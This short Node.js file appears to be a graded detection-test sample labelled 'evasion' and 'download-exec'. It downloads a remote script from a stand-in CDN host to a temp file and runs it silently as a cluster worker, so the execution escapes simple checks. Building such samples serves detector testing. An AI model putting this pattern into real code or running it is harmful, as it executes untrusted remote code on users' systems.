// evasion: downloaded script run as a cluster worker through cluster.setupPrimary({ exec })
// grade: hard; does: download-exec
const cluster = require('cluster');
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const dest = path.join(os.tmpdir(), `worker-${Date.now()}.js`);

https.get('https://cdn.example-assets.net/w.js', (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on('finish', () => {
    cluster.setupPrimary({ exec: dest, silent: true });
    cluster.fork();
  });
});
